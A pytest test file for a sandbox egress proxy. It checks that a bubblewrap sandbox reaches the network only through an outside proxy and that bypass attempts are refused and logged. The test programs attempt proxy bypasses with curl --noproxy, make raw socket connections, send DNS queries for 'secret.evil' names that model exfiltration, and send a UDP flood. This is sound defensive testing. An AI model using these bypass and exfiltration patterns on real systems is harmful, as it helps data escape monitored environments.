"""The ways out of a sandbox, served from outside, to a proxy that these tests are; and what goes around it."""

import asyncio
import contextlib
import socket
import tempfile
import threading
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from tests.runtime.hands.test_walls import make

from interlock.errors import HandsUnavailable
from interlock.runtime.hands import Command, Resources, Start, Stop
from interlock.runtime.hands.bubblewrap import BubblewrapBox
from interlock.runtime.hands.egress import Connected, Egress, Stray
from interlock.runtime.hands.network import Ways
from interlock.runtime.hands.relay import FLOWS_MAX, LOOKS, Relay
from interlock.testing.hands_contract import Ran, sh
from interlock.testing.loops import run_on


class Door:
    """A proxy outside that answers everybody alike, and notes what it was asked."""

    def __init__(self, directory: Path) -> None:
        self.path = directory / "door.sock"
        self.asked: list[bytes] = []
        self.closed: list[str] = []
        self.strays: list[Stray] = []

    def strayed(self, sandbox_id: str, stray: Stray) -> None:
        self.strays.append(stray)

    async def open(
        self, sandbox_id: str, allowed: tuple[str, ...], report: Callable[[Any], None], *, session: str
    ) -> Path:
        self.server = await asyncio.start_unix_server(self._serve, self.path)
        self.path.chmod(0o777)
        report(allowed)
        return self.path

    async def close(self, sandbox_id: str) -> None:
        self.server.close()
        self.closed.append(sandbox_id)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, OSError):
            self.asked.append(await reader.readuntil(b"\r\n\r\n"))
            body = b"through" * 50_000
            writer.write(b"HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
            await writer.drain()
        writer.close()


@contextlib.asynccontextmanager
async def with_door(directory: Path) -> AsyncIterator[tuple[BubblewrapBox, Door, list[Any]]]:
    told: list[Any] = []
    door = Door(directory)

    def report(session: str, connected: Any) -> None:
        told.append((session, connected))

    hands = make(directory, egress=door, report=report)
    box = await hands.provision("session", "w", Resources(egress=("example.com:80",)))
    try:
        yield box, door, told
    finally:
        await box.destroy()
    assert door.closed == [box.id]


def test_the_way_out_is_the_proxys(tmp_path: Path) -> None:
    async def main() -> None:
        async with with_door(tmp_path) as (box, door, told):
            assert told == [("session", ("example.com:80",))]
            ran = await sh(box, "curl -sS http://example.com/x | wc -c; find / -type s 2>/dev/null")
            assert ran.text == "350000\n", "through the loopback, and by no socket that is seen inside"
            assert door.asked[0].startswith(b"GET http://example.com/x HTTP/1.1\r\n")
            ran = await sh(box, "curl -sS --noproxy '*' -m 2 http://192.0.2.1:81/; cat /proc/net/tcp | grep -c ' 0A '")
            assert b"curl: (7)" in ran.stderr
            assert ran.text == "3\n", "the proxy, the name server, and the one port that is listed"
            async with asyncio.TaskGroup() as group:  # each command has a loopback of its own
                for _ in range(3):
                    group.create_task(sh(box, "curl -sS http://example.com/y | wc -c"))
            assert len(door.asked) == 4

    run_on("uvloop", main)


def test_a_command_ends_when_the_loops_threads_are_gone(tmp_path: Path) -> None:
    async def main() -> None:
        async with with_door(tmp_path) as (box, _, _):
            outputs = box.execute(Command(argv=("sleep", "600")))
            assert isinstance(await anext(outputs), Start)
            await asyncio.get_running_loop().shutdown_default_executor()
            async with asyncio.timeout(20):
                await box.destroy()
                (stop,) = [output async for output in outputs]
            assert isinstance(stop, Stop)  # ended by us, or by who found that its disk cannot be watched any more
            assert stop.status == "lost" or "cannot be measured" in stop.reason

    run_on("uvloop", main)


def test_a_list_that_nobody_keeps_is_refused(tmp_path: Path) -> None:
    async def main() -> None:
        with pytest.raises(HandsUnavailable, match="nothing here lets them out"):
            await make(tmp_path).provision("s", "w", Resources(egress=("example.com:443",)))

    run_on("uvloop", main)


ASTRAY = """
import socket
def to(family, kind, place, data=b""):
    with socket.socket(family, kind) as sock:
        sock.settimeout(5)
        try:
            sock.connect(place)
            for piece in data:
                sock.send(piece)
            print("connected" if kind == socket.SOCK_STREAM else "sent")
        except OSError as error:
            print(type(error).__name__)
four, six, datagram, stream = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_STREAM
question = bytes.fromhex("aaaa01000001000000000000") + b"\\6secret\\4evil\\0\\0\\1\\0\\1"
to(four, datagram, ("192.0.2.1", 9), [b"x" * 100])
to(four, stream, ("192.0.2.1", 443))
to(six, stream, ("2001:db8::1", 443))
to(six, datagram, ("2001:db8::1", 9), [b"x" * 10])
pieces = socket.socket(six, datagram)
pieces.sendto(b"x" * 65520, ("2001:db8::2", 9))  # more than the loopback takes at once
to(four, datagram, ("192.0.2.53", 53), [question])
to(four, datagram, ("127.0.0.1", 9), [b"to itself"])
to(four, stream, ("127.0.0.1", 443))
"""


def beside_a_proxy(line: str, egress: tuple[str, ...] = (), program: str = "") -> tuple[Ran, list[Any]]:
    """A line of shell in a sandbox with a real proxy; what it said, and what was told."""
    told: list[Connected] = []

    async def main(directory: Path) -> Ran:
        hands = make(
            directory, egress=Egress(directory / "egress"), report=lambda session, connected: told.append(connected)
        )
        box = await hands.provision("session", "w", Resources(egress=egress))
        if program:
            await box.write("program.py", program.encode())
        try:
            return await sh(box, line)
        finally:
            await box.destroy()

    with tempfile.TemporaryDirectory() as directory:
        ran = run_on("uvloop", lambda: main(Path(directory)))
    assert isinstance(ran, Ran)
    return ran, told


def test_what_goes_around_the_proxy_is_refused_at_once_and_told_once() -> None:
    ran, told = beside_a_proxy("python3 program.py", program=ASTRAY)
    said = ran.text.split()
    assert said == ["sent", *2 * ["ConnectionRefusedError"], "sent", "sent", "sent", "ConnectionRefusedError"], (
        ran.stderr
    )
    assert not any(one.allowed for one in told)
    assert [(one.protocol, one.host, one.port, one.address, one.sent_bytes) for one in told] == [
        ("udp", "192.0.2.1", 9, "", 100),
        ("tcp", "192.0.2.1", 443, "", 0),
        ("tcp", "2001:db8::1", 443, "", 0),
        ("udp", "2001:db8::1", 9, "", 10),
        ("udp", "2001:db8::2", 9, "", 65520),
        ("dns", "secret.evil", 53, "192.0.2.53", 29),
    ], told


def test_names_are_asked_for_and_told_without_a_list_too() -> None:
    ran, told = beside_a_proxy('getent ahosts secret.evil.example; test -z "$http_proxy" && echo no-proxy')
    assert ran.text == "no-proxy\n", ran.stderr
    assert {(one.host, one.protocol, one.allowed, one.why) for one in told} == {
        ("secret.evil.example", "dns", False, "not listed")
    }


def test_who_knows_of_no_proxy_is_led_to_it_by_name_and_by_address() -> None:
    line = "for host in a.example 192.0.2.1; do curl -sS --noproxy '*' -m 5 http://$host:8081/; done; true"
    _, told = beside_a_proxy(line, egress=("a.example:8081",))
    found = {(one.host, one.protocol, one.allowed) for one in told}
    assert found == {("a.example", "dns", True), ("a.example", "tcp", True), ("192.0.2.1", "tcp", False)}, told


def test_a_flood_is_told_in_few_lines() -> None:
    program = """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    for number in range(20_000):
        sock.sendto(b"x", ("192.0.2.1", number % 2000 + 1))
print("through")
"""
    ran, told = beside_a_proxy("python3 program.py", program=program)
    assert ran.text == "through\n", ran.stderr
    assert len(told) == FLOWS_MAX + 1, "so many places, and how many packets there were beside"
    assert told[-1].host == "" and "packets around the proxy" in told[-1].why
    counted = sum(1 if one.why.startswith("a packet") else int(one.why.split()[0]) for one in told)
    assert counted == 20_000, "each is counted, looked at or not"


def udp() -> socket.socket:
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
    made.bind(("127.0.0.1", 0))
    return made


@pytest.mark.parametrize("kind", ["packets", "questions", "streams"])
def test_what_comes_piece_by_piece_takes_no_more_of_our_time_than_a_flood(
    kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each piece when the one before was taken."""
    monkeypatch.setattr("interlock.runtime.hands.relay.REST_S", 60.0)
    monkeypatch.setattr("interlock.runtime.hands.network.lost", lambda _: 0)

    async def main() -> None:
        taken = 0

        def count(*_: object) -> None:
            nonlocal taken
            taken += 1

        listener = socket.create_server(("127.0.0.1", 0), backlog=LOOKS * 2)
        listener.setblocking(False)
        ways = Ways(udp(), udp(), (listener,), ())
        relay = Relay(Path("nowhere"), lambda stray: None)
        monkeypatch.setattr(relay, "_spawn", lambda work: count(work.close()))
        monkeypatch.setattr("interlock.runtime.hands.network.seen", count)
        relay.serve(ways)
        with contextlib.ExitStack() as stack:
            for _ in range(LOOKS * 2):
                if kind == "streams":
                    stack.enter_context(socket.create_connection(listener.getsockname()))
                else:
                    stack.enter_context(udp()).sendto(b"x", getattr(ways, kind).getsockname())
                before = taken
                for _ in range(20):
                    await asyncio.sleep(0)
                    if taken > before:
                        break
            assert taken == LOOKS
            relay.close()

    run_on("uvloop", main)


class Slow(socket.socket):
    """As a packet socket, whose end the kernel takes milliseconds for."""

    ended_in: threading.Thread | None = None

    def close(self) -> None:
        self.ended_in = threading.current_thread()
        super().close()


def test_the_loop_does_not_wait_while_the_kernel_lets_go_of_sockets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("interlock.runtime.hands.network.lost", lambda _: 0)
    packets = Slow(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)

    async def main() -> None:
        relay = Relay(Path("nowhere"), lambda stray: None)
        relay.serve(Ways(packets, udp(), (), ()))
        relay.close()

    run_on("uvloop", main)
    assert packets.fileno() == -1 and packets.ended_in not in (None, threading.current_thread())
